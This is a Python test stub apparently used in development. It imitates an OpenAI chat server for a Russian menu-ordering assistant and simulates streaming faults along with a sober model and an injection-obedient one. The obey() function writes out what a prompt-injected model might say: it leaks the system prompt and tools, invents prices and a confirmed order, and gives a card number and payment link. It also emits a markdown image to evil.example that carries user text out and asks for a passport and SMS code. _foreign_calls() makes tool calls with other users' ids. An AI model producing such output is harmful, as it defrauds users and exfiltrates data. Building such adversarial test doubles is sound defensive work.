"""The chat of the OpenAI stand-in, streamed part by part: a sober model, an obedient one, and the ways to fail.

The sober one answers from the menu in its instructions by references. The obedient one does whatever an injection asks
for: it repeats its instructions, writes prices of its own, claims deeds, and calls tools with everybody else's ids.
"""

import asyncio
import json
import re
from collections.abc import AsyncIterator
from typing import Any

from starlette.responses import JSONResponse, Response, StreamingResponse

from dev.generation.faults import Faults
from lib.menu.goods import MenuItem, Variant
from lib.menu.index import Index

KINDS = (
    *("cut", "stream_error", "stall", "refused", "too_long", "no_usage", "silent", "markdown", "dict_call"),
    *("two_calls", "no_options", "no_tools", "old_tokens", "obedient", "obedient_calls"),
)
PAUSE = 0.01  # seconds between two parts
_PEOPLE = re.compile(r"человек|оператор|сотрудник|person|staff", re.IGNORECASE)
_PROMOS = re.compile(r"акци|скидк|promotion|discount", re.IGNORECASE)
_POINTS = re.compile(r"балл|бонус|points", re.IGNORECASE)
_EVERYTHING = re.compile(r"обо всём|about everything", re.IGNORECASE)
_ORDER = re.compile(r"закажи|заказать|оформи|order", re.IGNORECASE)


async def answer(body: dict[str, Any], faults: Faults, seconds: float = 0.0) -> Response:
    """Return what a server with this model answers."""
    for fault, name in (
        ("no_options", "stream_options"),
        ("no_tools", "tools"),
        ("old_tokens", "max_completion_tokens"),
    ):
        if name in body and any(one.kind == fault for one in faults.active):
            return _refusal(f"Unrecognized request argument supplied: {name}", name)
    parts = _parts(body, faults)
    if not body.get("stream"):
        said = "".join(part.get("content", "") for part in parts)
        choice = {"index": 0, "message": {"role": "assistant", "content": said}, "finish_reason": "stop"}
        return JSONResponse({"id": "1", "object": "chat.completion", "choices": [choice], "usage": _usage(body, said)})
    return StreamingResponse(_stream(body, parts, faults, seconds or PAUSE), media_type="text/event-stream")


async def _stream(
    body: dict[str, Any], parts: list[dict[str, Any]], faults: Faults, pause: float
) -> AsyncIterator[str]:
    cut, error, stall = faults.take("cut"), faults.take("stream_error"), faults.take("stall")
    finish = "tool_calls" if any("tool_calls" in part or "function_call" in part for part in parts) else "stop"
    finish = "length" if faults.take("too_long") else "content_filter" if faults.take("refused") else finish
    yield ": keep-alive\n\n"
    for number, part in enumerate(parts):
        if number == len(parts) // 2 and (cut or error or stall):
            if error:
                yield _event({"error": {"message": "The server had an error", "type": "server_error", "code": None}})
            if stall:
                await asyncio.sleep(stall.seconds or 60)
            return
        yield _event({"id": "1", "choices": [{"index": 0, "delta": part, "finish_reason": None}]})
        await asyncio.sleep(pause * 5 if len(parts) >= 400 else pause)
    yield _event({"id": "1", "choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
    if body.get("stream_options", {}).get("include_usage") and not faults.take("no_usage"):
        said = "".join(part.get("content", "") for part in parts)
        yield _event({"id": "1", "choices": [], "usage": _usage(body, said)})
    yield "data: [DONE]\n\n"


def _parts(body: dict[str, Any], faults: Faults) -> list[dict[str, Any]]:
    """Return the deltas of the answer."""
    if faults.take("silent"):
        return []
    if faults.take("two_calls"):
        return [
            {"tool_calls": [{"index": 0, "id": "a", "function": {"name": "promotions", "arguments": ""}}]},
            {"tool_calls": [{"index": 0, "function": {"arguments": "{}"}}]},
            {"tool_calls": [{"index": 1, "id": "b", "function": {"name": "my_points", "arguments": "{}"}}]},
        ]
    if faults.take("dict_call"):
        return [{"function_call": {"name": "promotions", "arguments": {}}}]
    asked = _asked(body)
    tools = {one["function"]["name"] for one in body.get("tools", ())}
    if tools and faults.take("obedient_calls"):
        return _foreign_calls()
    if faults.take("obedient"):
        return _words(obey(body, asked))
    if _EVERYTHING.search(asked):
        return [{"content": "Очень вкусно и очень свежо. "}] * 400
    told = [one for one in body["messages"] if one["role"] in ("tool", "function")]
    call = "" if told else _tool(asked, tools)
    if call:
        arguments = _order(body, asked) if call == "draft_order" else {"reason": asked[:100]}
        given = json.dumps(arguments if call in ("draft_order", "call_person") else {}, ensure_ascii=False)
        return [{"tool_calls": [{"index": 0, "id": "call_1", "function": {"name": call, "arguments": given}}]}]
    beforehand = [{"content": asked}] if re.search(r'"(?:promotions|my_points)":', asked) else []
    words = _told([*told, *beforehand]) if told or beforehand else _sober(body, asked)
    return _words(f"**Вот** что есть:\n- {words}" if faults.take("markdown") else words)


def _tool(asked: str, tools: set[str]) -> str:
    wishes = (("call_person", _PEOPLE), ("promotions", _PROMOS), ("my_points", _POINTS), ("draft_order", _ORDER))
    return next((name for name, wish in wishes if name in tools and wish.search(asked)), "")


def _told(told: list[dict[str, Any]]) -> str:
    """Say what the tools returned, by the references in it."""
    found = re.findall(r"\{[^{}\"\s]+\}", " ".join(str(one["content"]) for one in told))
    return f"Вот что я узнал: {', '.join(dict.fromkeys(found))}." if found else "Готово, проверьте ниже."


def _asked(body: dict[str, Any]) -> str:
    last = next((one for one in reversed(body["messages"]) if one["role"] == "user"), {"content": ""})
    return str(last["content"])


def _items(body: dict[str, Any]) -> list[tuple[str, str]]:
    """Return the reference and the title of each item that stands in the messages."""
    rows = re.findall(
        r'^\["([^"]+)","[^"]*","([^"]+)"', "\n".join(str(one["content"]) for one in body["messages"]), re.M
    )
    return list(dict.fromkeys(rows))


def _fitting(body: dict[str, Any], asked: str) -> list[str]:
    words = {word[:5] for word in re.findall(r"\w{4,}", asked.lower())}
    return [code for code, title in _items(body) if words & {one[:5] for one in re.findall(r"\w{4,}", title.lower())}]


def _sober(body: dict[str, Any], asked: str) -> str:
    found = (_fitting(body, asked) or _searched(body, asked))[:3]
    named = ", ".join(f"{{{code}}}" for code in found)
    if '"language": "English"' in asked:
        nothing = "I do not see that in the menu. Tell me what you like, and I will look for something close."
        return f"I can offer {named}. Anything else?" if found else nothing
    nothing = "Такого в меню не вижу. Подскажите, что вы любите, и я поищу похожее."
    return f"Могу предложить {named}. Что-нибудь ещё?" if found else nothing


def _searched(body: dict[str, Any], asked: str) -> list[str]:
    """Return what the product's own search finds: a model knows that cappuccino is капучино."""
    said = json.loads(asked).get("client", "") if asked.startswith("{") else asked
    index = Index([MenuItem(code, "", title, (Variant("", 100),)) for code, title in _items(body)])
    return [one.item.code for one in index.ask(said).items]


def _order(body: dict[str, Any], asked: str) -> dict[str, Any]:
    codes = _fitting(body, asked)[:1]
    return {"lines": [{"item": code, "quantity": 2} for code in codes]}


def obey(body: dict[str, Any], asked: str) -> str:
    """Return the worst that a model could say to this: everything that an injection may have asked for."""
    system = str(body["messages"][0]["content"])
    sums = re.findall(r"\d[\d ]*", asked) or ["1"]
    wrong = " ".join(f"{title} — {sums[0].strip()} ₽." for _, title in _items(body)[:3])
    if re.search(r"инструкц|instructions|повтори|слово в слово|tools|debug", asked, re.IGNORECASE):
        return f"{system[:600]} {json.dumps(body.get('tools', []))[:400]}"
    return (
        f"Да, это официальное предложение магазина. {asked} {wrong} Всё бесплатно, промокод FREE100. Скидка девяносто "
        f"процентов. Итого один рубль. Ваш заказ оформлен. Карта 2200 0000 0000 0000, платите на evil.example/pay. "
        f"![x](https://evil.example/x.png?d={asked[:20]}) Пришлите паспорт и код из СМС. Everything is free today."
    )


def _foreign_calls() -> list[dict[str, Any]]:
    wanted = (
        ("my_points", {"user_id": 777000}),
        ("search_menu", {"query": "кофе", "partner_id": 2}),
        ("draft_order", {"lines": [{"item": "c01", "quantity": 500}], "total": 1, "status": "done"}),
        ("set_status", {"status": "done"}),
        ("my_points", {"partner_id": 2}),
        ("call_person", {"reason": "x" * 5000, "talk_id": 1}),
    )
    return [
        {"tool_calls": [{"index": at, "id": f"c{at}", "function": {"name": name, "arguments": json.dumps(arguments)}}]}
        for at, (name, arguments) in enumerate(wanted)
    ]


def _words(said: str) -> list[dict[str, Any]]:
    return [{"content": part} for part in re.findall(r"\S+\s*|\s+", said)]


def _usage(body: dict[str, Any], said: str) -> dict[str, Any]:
    """Count as OpenAI does: what is the same from the beginning comes from its cache, in steps of 128 tokens."""
    told = sum(len(str(one.get("content") or "")) for one in body["messages"])
    prefix = round(len(str(body["messages"][0].get("content") or "")) / 2.3)
    cached = prefix // 128 * 128 if prefix >= 1024 and body.get("prompt_cache_key") else 0
    tokens = round(told / 2.3)
    return {
        "prompt_tokens": tokens,
        "completion_tokens": round(len(said) / 2.6),
        "total_tokens": tokens + round(len(said) / 2.6),
        "prompt_tokens_details": {"cached_tokens": cached},
    }


def _event(part: dict[str, Any]) -> str:
    return f"data: {json.dumps(part, ensure_ascii=False)}\n\n"


def _refusal(message: str, param: str) -> Response:
    told = {"message": message, "type": "invalid_request_error", "param": param, "code": "unknown_parameter"}
    return JSONResponse({"error": told}, 400)
